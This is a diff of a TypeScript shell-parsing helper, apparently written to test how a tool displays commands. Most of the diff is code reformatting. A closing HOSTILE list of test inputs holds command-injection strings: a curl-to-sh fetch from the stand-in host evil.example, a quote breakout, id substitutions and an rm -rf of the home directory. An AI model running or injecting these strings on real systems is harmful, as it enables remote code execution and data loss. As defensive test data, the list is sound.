@@ -1,8 +1,14 @@
 // A POSIX shell's reading of a command line, for tests of the commands Podscope shows: words
 // (with which characters were quoted), and the unquoted operators and expansions a shell would act
 // on (; | & < > ( ) ` $ and newlines). Comments are skipped as a shell skips them.
-export interface ShellWord { text: string; quoted: boolean[] }
-export interface ShellParse { words: ShellWord[]; /** unquoted operators and expansions, in order */ ops: string[] }
+export interface ShellWord {
+  text: string;
+  quoted: boolean[];
+}
+export interface ShellParse {
+  words: ShellWord[];
+  /** unquoted operators and expansions, in order */ ops: string[];
+}
 
 const OPERATORS = new Set([';', '|', '&', '<', '>', '(', ')', '`', '\n']);
 
@@ -10,8 +16,15 @@ export function parseShell(cmd: string): ShellParse {
   const words: ShellWord[] = [];
   const ops: string[] = [];
   let cur: ShellWord | undefined;
-  const add = (ch: string, quoted: boolean) => { cur ??= { text: '', quoted: [] }; cur.text += ch; cur.quoted.push(quoted); };
-  const end = () => { if (cur) words.push(cur); cur = undefined; };
+  const add = (ch: string, quoted: boolean) => {
+    cur ??= { text: '', quoted: [] };
+    cur.text += ch;
+    cur.quoted.push(quoted);
+  };
+  const end = () => {
+    if (cur) words.push(cur);
+    cur = undefined;
+  };
   for (let i = 0; i < cmd.length; i++) {
     const ch = cmd[i];
     if (ch === "'") {
@@ -24,8 +37,10 @@ export function parseShell(cmd: string): ShellParse {
       cur ??= { text: '', quoted: [] };
       for (i++; i < cmd.length && cmd[i] !== '"'; i++) {
         if (cmd[i] === '\\' && '$`"\\\n'.includes(cmd[i + 1] ?? '')) add(cmd[++i], true);
-        else if (cmd[i] === '$' || cmd[i] === '`') { ops.push(cmd[i]); add(cmd[i], false); }
-        else add(cmd[i], true);
+        else if (cmd[i] === '$' || cmd[i] === '`') {
+          ops.push(cmd[i]);
+          add(cmd[i], false);
+        } else add(cmd[i], true);
       }
       if (i >= cmd.length) throw new Error(`unterminated double quote in ${cmd}`);
     } else if (ch === '\\') {
@@ -59,10 +74,11 @@ export function onlyQuoted(p: ShellParse, value: string): boolean {
 }
 
 export const HOSTILE = [
-  "evil.example/app;curl${IFS}-s${IFS}evil.example/x|sh;echo:1.0",
+  'evil.example/app;curl${IFS}-s${IFS}evil.example/x|sh;echo:1.0',
   "x';touch${IFS}/tmp/pwned;'",
   'a"$(id)"`id`&&b||c>d<e\\f',
-  "new\nline;rm${IFS}-rf${IFS}~",
-  '', "'", '#comment',
+  'new\nline;rm${IFS}-rf${IFS}~',
+  '',
+  "'",
+  '#comment',
 ];
-
